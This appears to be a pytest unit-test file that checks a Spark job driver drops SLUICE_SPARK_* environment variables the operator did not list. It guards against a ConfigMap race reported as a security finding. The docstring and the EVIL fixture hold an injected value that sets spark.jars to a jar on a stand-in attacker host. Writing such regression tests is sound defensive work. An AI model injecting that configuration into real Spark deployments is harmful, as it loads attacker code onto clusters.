"""Issue 38, finding 4, the driver's side: only the operator's ``SLUICE_SPARK_*``
variables become Spark configuration. Reproduction (old code): an ``envFrom``
ConfigMap changed between the operator's check and the container's start puts
``SLUICE_SPARK_CONF={"spark.jars": "https://evil.example/x.jar"}`` (or
``SLUICE_SPARK_MASTER``) into the driver's environment, and ``spark.spark_conf``
applied it last, over everything."""

from __future__ import annotations

import json
import logging

import pytest

from sluice_api import env as names
from sluice_job import spark_env
from sluice_job.spark import spark_conf
from tests.support.observations import spec

pytestmark = pytest.mark.unit

EVIL = json.dumps({"spark.jars": "https://evil.example/x.jar"})


def test_a_spark_variable_the_operator_did_not_list_is_ignored() -> None:
    env = {
        names.OPERATOR_SPARK_ENV: "",
        names.SPARK_CONF: EVIL,
        "SLUICE_SPARK_EXTRA": "1",
        names.SPARK_JARS: "/opt/sluice/jars/a.jar",  # the image's
        "REGION": "eu",
    }
    assert spark_env.ignored(env) == (names.SPARK_CONF, "SLUICE_SPARK_EXTRA")


def test_the_operators_spark_variables_are_kept() -> None:
    listed = f"{names.SPARK_MASTER},{names.SPARK_CONF},{names.SPARK_AUTH_SECRET}"
    env = {
        names.OPERATOR_SPARK_ENV: listed,
        names.SPARK_MASTER: "k8s://https://kube:443",
        names.SPARK_CONF: "{}",
        names.SPARK_AUTH_SECRET: "s",
    }
    assert spark_env.ignored(env) == ()


def test_a_driver_not_started_by_the_operator_keeps_every_one() -> None:
    """Local runs, tests and the benchmark set ``SLUICE_SPARK_*`` themselves."""
    assert spark_env.ignored({names.SPARK_CONF: EVIL, names.SPARK_JARS: "a.jar"}) == ()


def test_ignored_variables_leave_the_environment_and_never_reach_spark(
    caplog: pytest.LogCaptureFixture,
) -> None:
    environ = {names.OPERATOR_SPARK_ENV: "", names.SPARK_CONF: EVIL, "REGION": "eu"}
    with caplog.at_level(logging.WARNING, logger="sluice_job"):
        assert spark_env.drop_ignored(environ) == (names.SPARK_CONF,)
    assert environ == {names.OPERATOR_SPARK_ENV: "", "REGION": "eu"}
    conf = spark_conf(spec(), environ, "app", "python")
    assert "spark.jars" not in conf
    (record,) = caplog.records
    assert record.fields["variable"] == names.SPARK_CONF  # type: ignore[attr-defined]
    assert "evil" not in record.getMessage() + json.dumps(record.fields)  # type: ignore[attr-defined]
